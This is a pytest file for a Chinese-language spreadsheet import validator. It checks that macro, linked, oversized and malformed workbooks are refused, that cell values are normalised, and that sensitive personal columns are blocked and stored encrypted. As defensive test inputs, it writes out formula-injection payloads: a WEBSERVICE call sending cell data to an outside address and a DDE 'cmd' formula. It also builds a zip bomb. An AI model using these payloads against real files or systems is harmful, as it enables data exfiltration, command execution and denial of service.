"""What people send: each told plainly, nothing half-done."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date
from typing import TYPE_CHECKING
from uuid import UUID

import openpyxl
import pytest

from tests.operations.founding.books import AGENCY_HEADS, AGENCY_ROWS, PEOPLE_HEADS, PEOPLE_ROWS, book, flipped, saved
from tests.operations.founding.conftest import Hand
from xiucheng.kit.refused import Refused
from xiucheng.operations.founding.books import limits
from xiucheng.operations.founding.books.reading import Sheet, read
from xiucheng.operations.founding.rules import cells, personal

if TYPE_CHECKING:
    from tests.world import World
    from xiucheng.foundation.people.rules import Standing

NAMES = {"code": ("单位代码",), "name": ("单位名称",), "kind": ("单位类别",), "parent": ("上级单位",)}
REQUIRED = ("name", "kind")


def sheet_of(content: bytes) -> Sheet:
    return read(content, NAMES, REQUIRED)


def added(content: bytes, name: str, body: bytes = b"x") -> bytes:
    """The workbook with one more part in its zip."""
    buffer = io.BytesIO(content)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name, body)
    return buffer.getvalue()


def plain() -> bytes:
    return book(AGENCY_HEADS, AGENCY_ROWS)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (lambda: b"", "empty_file"),
        (lambda: b"a,b\n1,2\n", "not_xlsx"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1" + bytes(600), "old_or_locked"),
        (lambda: plain()[:900], "broken_file"),
        (lambda: flipped(plain(), "xl/worksheets/sheet1.xml"), "broken_file"),
        (lambda: flipped(plain(), "[Content_Types].xml"), "broken_file"),
        (lambda: added(plain(), "xl/vbaProject.bin"), "macro_book"),
        (lambda: added(plain(), "xl/externalLinks/externalLink1.xml"), "external_links"),
        (lambda: added(plain(), "xl/connections.xml"), "external_links"),
        (lambda: bytes(limits.MAX_BYTES + 1), "too_large"),
        (lambda: book(("甲", "乙"), [("1", "2")]), "no_heading"),
        (lambda: book(AGENCY_HEADS, []), "empty_file"),
        (lambda: _bomb(), "too_large"),
    ],
)  # fmt: skip
def test_a_file_that_cannot_be_used_is_refused_by_name(content: Callable[[], bytes], code: str) -> None:
    with pytest.raises(Refused) as refused:
        sheet_of(content())
    assert refused.value.code == code
    assert str(refused.value.text).endswith("。")


def _bomb() -> bytes:
    """Small when packed, half a gigabyte when unpacked."""
    buffer = io.BytesIO(plain())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/media/a.bin", "w") as part:
        for _chunk in range(410):
            part.write(bytes(1024 * 1024))
    return buffer.getvalue()


def test_merged_cells_are_filled_downwards_and_refused_across() -> None:
    made = openpyxl.load_workbook(io.BytesIO(plain()))
    sheet = made.worksheets[0]
    sheet.append(["a1", "示例甲", "职能部门", "city"])
    sheet.append(["a2", "示例乙", None, None])
    sheet.append(["a3", "示例丙", "职能部门", "city"])
    sheet.merge_cells("C5:C6")
    sheet.merge_cells("B7:C7")
    rows = {row.number: row for row in sheet_of(saved(made)).rows}
    assert (rows[6].cells["kind"], rows[6].filled) == ("职能部门", ("kind",))
    assert rows[7].wrong == {"kind": "merged_across"}


def test_a_title_and_two_rows_of_headings_are_seen_through() -> None:
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(["示例区单位名录", None, None, None, None])
    sheet.merge_cells("A1:E1")
    sheet.append([])
    sheet.append(["基本情况", None, "单位类别 *", "隶属", None])
    sheet.append(["单位代码", "单位 名称（全称）", None, "上级单位：", "备注"])
    sheet.append(["a", "示例甲", "职能部门", "", "x"])
    sheet.append(["单位代码", "单位名称", "单位类别", "上级单位", "备注"])
    sheet.append(["b", "示例乙", "职能部门", "a", ""])
    found = sheet_of(saved(made))
    assert [(row.number, row.cells["name"], row.cells["parent"]) for row in found.rows] == [
        (5, "示例甲", None),
        (7, "示例乙", "a"),
    ]
    assert set(found.others.values()) == {"备注"}


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://203.0.113.9/"&A1)',
        "=cmd|'/c calc'!A0",
        "=[其他.xlsx]Sheet1!A1",
        '=HYPERLINK("\\\\host\\a")',
    ],
)
def test_a_formula_that_reaches_outside_is_refused_in_its_cell(formula: str) -> None:
    rows = sheet_of(book(AGENCY_HEADS, [("a", formula, "职能部门", ""), ("b", "示例乙", "职能部门", "")])).rows
    assert rows[0].wrong == {"name": "formula_calls_out"}
    assert rows[0].cells["name"] is None
    assert not rows[1].wrong


def test_a_formula_without_its_value_is_told() -> None:
    rows = sheet_of(book(AGENCY_HEADS, [("a", '=A2&"局"', "职能部门", "")])).rows
    assert rows[0].wrong == {"name": "formula_without_value"}


def test_the_example_row_is_never_taken() -> None:
    rows = sheet_of(
        book(
            ("标记", *AGENCY_HEADS), [("示例（此行不导入）", "x", "示例", "职能部门"), ("", "y", "示例乙", "职能部门")]
        )
    ).rows
    assert [row.cells["code"] for row in rows] == ["y"]


@pytest.mark.parametrize(
    ("kind", "value", "wanted"),
    [
        ("text", "  示例　区（东）  １２号 ", "示例 区（东） 12号"),
        ("text", "甲\u200b乙\n丙", "甲乙 丙"),
        ("text", 12.0, "12"),
        ("phone", "１３９－０００００００１", "13900000001"),
        ("phone", 13900000001.0, "13900000001"),
        ("phone", "+86 139 0000 0001", "13900000001"),
        ("date", "2026年3月1日", "2026-03-01"),
        ("date", "２０２６．３．１", "2026-03-01"),
        ("date", "20260301", "2026-03-01"),
        ("date", 20260301, "2026-03-01"),
        ("date", 46082, "2026-03-01"),
        ("date", date(2026, 3, 1), "2026-03-01"),
        ("time", "8：30", "08:30"),
        ("time", "8点", "08:00"),
        ("time", 0.354166667, "08:30"),
        ("time", "24:00", "24:00"),
        ("moment", "2026/3/1 8:05", "2026-03-01T08:05"),
        ("lower", "Ｒoads ", "roads"),
        ("yes", "是", "1"),
    ],
)
def test_cells_come_into_one_form(kind: str, value: object, wanted: str) -> None:
    assert cells.KINDS[kind](value) == wanted


@pytest.mark.parametrize(
    ("kind", "value"),
    [("date", "2026-02-30"), ("date", "三月"), ("date", 5.0e9), ("date", True), ("time", "25:00"), ("phone", "无"),
     ("whole", "-1"), ("number", "1e99"), ("digits", "1.5"), ("yes", "也许")],
)  # fmt: skip
def test_cells_that_are_none_are_told(kind: str, value: object) -> None:
    with pytest.raises(cells.BadCell):
        cells.KINDS[kind](value)


@pytest.mark.parametrize(
    ("label", "code"),
    [
        ("宗教信仰", "religion"), ("是否信教", "religion"), ("民 族", "ethnicity"), ("Ethnicity", "ethnicity"),
        ("族别", "ethnicity"), ("族", "ethnicity"), ("信访情况", "petitioning"), ("是否重点人员", "petitioning"),
        ("上访次数", "petitioning"), ("思想动态", "opinion"), ("政治倾向", "opinion"), ("Ｒeligion", "religion"),
    ],
)  # fmt: skip
def test_some_columns_can_never_be_defined(label: str, code: str) -> None:
    found = personal.forbidden(label)
    assert found is not None
    assert found.code == code
    assert personal.purposes_for(label) == ()


def test_party_membership_has_one_purpose() -> None:
    for label in ("政治面貌", "是否党员", "入党时间"):
        assert personal.purposes_for(label) == ("double_registration",)
    assert set(personal.purposes_for("微信号")) == set(personal.PURPOSES)


@pytest.mark.django_db(transaction=True, databases=["default", "keys"])
class TestOnTheSite:
    @pytest.fixture
    def world(self, transactional_db: None) -> World:
        from tests.world import build
        from xiucheng.kit.now import now

        return build(now())

    def test_two_people_with_one_phone_are_asked_about(self, hand: Hand) -> None:
        rows = [
            *PEOPLE_ROWS,
            ("", "示例丁", "１３９００００００ ０２", "", "受理员", ""),
            ("", "示例戊", "0592-5550000", "", "受理员", ""),
            ("", "示例己", "0592-5550000", "", "派遣员", ""),
        ]
        view = hand("people", book(PEOPLE_HEADS, rows))
        assert {(one.row, one.code) for one in view.faults} == {(4, "phone_shared"), (5, "phone_shared")}
        assert view.created == 4

    def test_personal_columns_go_unless_somebody_says_what_for(self, hand: Hand, admin: Standing) -> None:
        from xiucheng.foundation.people import vault
        from xiucheng.operations.founding import queries
        from xiucheng.operations.founding.models import Extra

        heads = (*PEOPLE_HEADS, "微信号", "政治面貌", "民族")
        rows = [(*PEOPLE_ROWS[0], "示例微信", "中共党员", "某族")]
        content = book(heads, rows)
        view = hand("people", content)
        assert {one.label: bool(one.forbidden) for one in view.others} == {
            "微信号": False,
            "政治面貌": False,
            "民族": True,
        }
        at = {one.label: one.index for one in view.others}
        for keep, code in (
            ({at["民族"]: ("contact", "month")}, "forbidden_column"),
            ({at["政治面貌"]: ("contact", "month")}, "bad_purpose"),
            ({at["微信号"]: ("contact", "for_ever")}, "bad_purpose"),
        ):
            with pytest.raises(Refused, match=code):
                hand_with(admin, view.id, view.plan_digest, keep)
        hand_with(admin, view.id, view.plan_digest, {at["政治面貌"]: ("double_registration", "service")})
        assert queries.import_view(view.id, admin).state == "taken"
        extra = Extra.objects.get()
        assert (extra.label, extra.purpose, extra.erase_on) == ("政治面貌", "double_registration", None)
        assert vault.open_text(extra.key_id, bytes(extra.sealed)) == "中共党员"
        # And it is gone with the person.
        from tests.world import SETUP
        from xiucheng.foundation.people import commands as people
        from xiucheng.kit.now import now
        from xiucheng.operations.founding import commands

        people.leave_person(by=SETUP, now=now(), person_id=UUID(extra.ref))
        assert commands.erase_extras(now=now(), today=now().date()) == 1
        assert vault.open(extra.key_id, bytes(extra.sealed)) is None

    def test_a_refused_file_says_why_on_its_page(self, hand: Hand, admin: Standing) -> None:
        view = hand("agencies", book(("单位名称", "单位代码"), [("示例甲", "a")]))
        assert view.state == "refused"
        assert "单位类别" in view.said

    def test_nothing_of_the_file_lies_open(self, hand: Hand) -> None:
        from django.db import connection

        hand("people", book(PEOPLE_HEADS, PEOPLE_ROWS), take=True)
        with connection.cursor() as cursor:
            for table in ("founding_import", "founding_effect", "founding_known", "founding_extra", "kit_step"):
                cursor.execute(
                    f"SELECT count(*) FROM {table} t WHERE t::text LIKE '%示例%' OR t::text LIKE '%1390000%'"
                )
                assert cursor.fetchone()[0] == 0, table


def hand_with(admin: Standing, import_id: UUID, digest: str, keep: dict[int, tuple[str, str]]) -> None:
    from xiucheng.kit import jobs
    from xiucheng.kit.now import now
    from xiucheng.operations.founding import commands

    commands.accept(by=admin, now=now(), import_id=import_id, plan_digest=digest, keep=keep)
    jobs.run_waiting()
